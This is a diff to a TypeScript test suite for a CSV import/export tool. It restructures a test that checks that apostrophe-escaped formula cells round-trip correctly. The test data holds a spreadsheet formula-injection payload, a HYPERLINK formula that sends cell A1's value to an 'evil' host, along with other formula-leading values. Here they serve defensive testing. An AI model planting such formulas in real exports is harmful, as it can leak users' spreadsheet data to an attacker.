@@ -82,34 +82,19 @@ describe('--column field=header', () => {
 
 describe('cells stay text: the `\'` -o csv writes before a formula is dropped on import', () => {
   it('before =, +, -, @, a tab or a CR, and nowhere else', async () => {
-    const csv = [
-      'name,categoryId,status',
-      `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",1,`,
-      "'-2+3,1,",
-      "'+1,1,",
-      "'@SUM(1+1),1,",
-      '"\'\t=1",1,',
-      '"\'\r=1",1,',
-      "'Tis,1,",
-      "''=x,1,",
-      "=plain,1,",
-      "x'=y,1,",
-      "'',1,",
-    ].join('\n');
-    expect((await read(csv)).map((row) => row.newPet?.name ?? row.reason)).toEqual([
-      '=HYPERLINK("http://evil/?x="&A1,"click")',
-      '-2+3',
-      '+1',
-      '@SUM(1+1)',
+    // Each cell as the file has it, and the name read from it.
+    const cells: Array<[string, string]> = [
+      [`"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`, '=HYPERLINK("http://evil/?x="&A1,"click")'],
+      ["'-2+3", '-2+3'],
+      ["'+1", '+1'],
+      ["'@SUM(1+1)", '@SUM(1+1)'],
       // The tab and the CR then go as a name's other surrounding whitespace does: the schema trims names.
-      '=1',
-      '=1',
-      "'Tis",
-      "''=x",
-      '=plain',
-      "x'=y",
-      "''",
-    ]);
+      ['"\'\t=1"', '=1'],
+      ['"\'\r=1"', '=1'],
+      ...["'Tis", "''=x", '=plain', "x'=y", "''"].map((kept): [string, string] => [kept, kept]),
+    ];
+    const csv = ['name,categoryId,status', ...cells.map(([cell]) => `${cell},1,`)].join('\n');
+    expect((await read(csv)).map((row) => row.newPet?.name ?? row.reason)).toEqual(cells.map(([, name]) => name));
     // JSON carries the exact value.
     expect((await read('[{"name":"\'=x","categoryId":1}]')).map((row) => row.newPet?.name)).toEqual(["'=x"]);
   });
